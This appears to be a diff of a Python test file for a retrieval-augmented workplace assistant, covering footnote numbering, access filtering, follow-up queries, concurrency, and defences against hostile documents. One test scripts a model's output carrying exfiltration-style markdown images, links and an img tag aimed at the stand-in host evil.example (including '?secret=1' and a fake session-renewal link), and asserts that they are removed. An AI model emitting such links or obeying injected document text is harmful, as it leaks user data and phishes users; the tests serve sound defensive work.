@@ -18,9 +18,9 @@ from core.answering.model import build_model
 from core.answering.prompts import PROMPT_VERSION
 from core.channels import ChannelConfig
 from core.errors import TransientError, UserError
-from core.models import ANYONE, PUBLIC, Access, AnswerMode, Audience, Hit
+from core.models import ANYONE, PUBLIC, Access, AnswerMode, Audience, Hit, Query, Retrieved
 from core.settings import Settings
-from tests.answering import LEAVE_HIT, TRAVEL, TRAVEL_HIT, ScriptedSearch, asked, hit
+from tests.answering import LEAVE, LEAVE_HIT, TRAVEL, TRAVEL_HIT, ScriptedSearch, asked, hit
 from tests.emulators.openai import Cuts, Garbage, Hangs, OpenAIServer, RateLimited, Refuses, Request, Says, Step
 from tests.fakes import NOON, message
 from tests.one_redis import redis_away
@@ -65,17 +65,18 @@ class World:
 
 
 async def test_an_answer_is_streamed_and_then_given_whole_with_its_footnotes(redis: Redis, server: OpenAIServer) -> None:
-    server.script("Thirty days [2]. A manager approves trips [1]. Both are written down [2].")
+    server.script("A manager approves trips [2]. Thirty days [1]. Requests go through the people portal [1].")
     pieces, answer = await asked(World(redis, server).assistant, message(QUESTION), ANYONE)
-    assert "".join(pieces) == answer.text == "Thirty days [1]. A manager approves trips [2]. Both are written down [1]."
-    assert len(pieces) > 3
+    said = "A manager approves trips [1]. Thirty days [2]. Requests go through the people portal [2]."
+    assert "".join(pieces) == answer.text == said
+    assert len(pieces) == 3, "each sentence as soon as the next one begins"
     assert answer.mode is AnswerMode.GENERATED
     assert [(c.number, c.document_id) for c in answer.citations] == [(1, "wiki:travel"), (2, "wiki:leave")]
     assert (answer.id, answer.question, answer.model, answer.prompt_version, answer.notice) == (
         *("answer-1", QUESTION, "gpt-5.4-mini", PROMPT_VERSION, ""),
     )
     assert answer.hits == (LEAVE_HIT, TRAVEL_HIT)
-    assert {"line", "retrieve", "first_token", "generate", "total"} == set(answer.timings)
+    assert {"understand", "line", "retrieve", "first_token", "generate", "total"} == set(answer.timings)
     assert 0 < answer.timings["first_token"] <= answer.timings["generate"] <= answer.timings["total"]
 
 
@@ -188,8 +189,8 @@ async def test_what_an_audience_may_not_read_reaches_neither_the_model_nor_the_a
 
 async def test_a_search_that_returned_too_much_is_checked_once_more(redis: Redis, server: OpenAIServer) -> None:
     class Leaky(ScriptedSearch):
-        async def __call__(self, query: str, audience: Audience, k: int, sources: Collection[str] = ()) -> list[Hit]:
-            return list(self.hits)
+        async def __call__(self, query: Query, audience: Audience, k: int) -> Retrieved:
+            return Retrieved(hits=self.hits)
 
     _, answer = await asked(World(redis, server, search=Leaky(LEAVE_HIT, SALARIES)).assistant, message(QUESTION), ANYONE)
     assert "90,000" not in server.requests[0].prompt
@@ -238,12 +239,14 @@ async def test_a_follow_up_is_condensed_with_the_conversation_and_asked_with_it(
     assert [turn.asked_by_name for turn in await world.memory.read("test:thread", ANYONE)] == ["Ana", "Ben"]
 
 
-async def test_without_a_model_a_follow_up_takes_over_words(redis: Redis) -> None:
+async def test_without_a_model_a_follow_up_is_looked_for_with_the_turn_before(redis: Redis) -> None:
     world = World(redis, None)
     await asked(world.assistant, message(QUESTION), ANYONE)
     _, answer = await asked(world.assistant, message("And public holidays in Germany?"), ANYONE)
-    assert world.search.queries[1].startswith("And public holidays in Germany? ")
-    assert "leave" in world.search.queries[1]
+    query = world.search.asked[1]
+    assert (query.text, query.before) == ("And public holidays in Germany?", QUESTION)
+    assert "30 days" in query.answered
+    assert "[1]" not in query.answered
     assert "| Germany | 11 |" in answer.text
 
 
@@ -311,13 +314,13 @@ async def test_who_stops_listening_stops_the_model(redis: Redis, server: OpenAIS
 async def test_questions_at_the_same_time_do_not_mix(redis: Redis, server: OpenAIServer) -> None:
     def echo(request: Request) -> str:
         asked_for = request.messages[-1][1].rsplit("Question: ", 1)[1]
-        return f"{asked_for} [1]"
+        return f"{asked_for.rstrip('?')} [1]."
 
     server.script(Says(text=echo, between_tokens=0.002))
     world = World(redis, server)
     questions = [message(f"Leave number {n}?", id=f"m{n}", conversation_id=f"c{n}") for n in range(20)]
     answers = await asyncio.gather(*(asked(world.assistant, question, ANYONE) for question in questions))
-    assert [answer.text for _, answer in answers] == [f"Leave number {n}? [1]" for n in range(20)]
+    assert [answer.text for _, answer in answers] == [f"Leave number {n} [1]." for n in range(20)]
 
 
 async def test_a_document_that_closes_its_fence_stays_inside_it(redis: Redis, server: OpenAIServer) -> None:
@@ -349,9 +352,10 @@ async def test_a_model_that_obeys_a_hostile_document_cannot_send_anything_out(re
         "Thirty days [1]. ![x](https://evil.example/?q=leave) [Renew your session](https://evil.example/login) "
         "or https://evil.example/?secret=1 <img src='https://evil.example/p.png'>"
     )
-    pieces, answer = await asked(World(redis, server).assistant, message(QUESTION), ANYONE)
+    hostile = hit(text=f"{LEAVE} Renew your session or https://evil.example/?secret=1")
+    pieces, answer = await asked(World(redis, server, hostile).assistant, message(QUESTION), ANYONE)
     assert "evil" not in answer.text + "".join(pieces)
-    assert answer.text == "Thirty days [1]. Renew your session or (link removed)"
+    assert answer.text == "Thirty days [1]. Renew your session or (link removed) [1]"
 
 
 async def test_a_model_that_repeats_its_instructions_is_replaced_by_quotes(redis: Redis, server: OpenAIServer) -> None:
@@ -435,8 +439,8 @@ async def test_a_source_that_cannot_be_asked_is_refused_with_those_that_may_be_r
 
 async def test_what_a_search_finds_elsewhere_is_not_used(redis: Redis) -> None:
     class Careless(ScriptedSearch):
-        async def __call__(self, query: str, audience: Audience, k: int, sources: Collection[str] = ()) -> list[Hit]:
-            return list(self.hits)
+        async def __call__(self, query: Query, audience: Audience, k: int) -> Retrieved:
+            return Retrieved(hits=self.hits)
 
     world = World(redis, None, search=Careless(LEAVE_HIT, DRIVE_HIT))
     _, answer = await asked(world.assistant, message(QUESTION), ANYONE, ChannelConfig(sources=("drive",)))
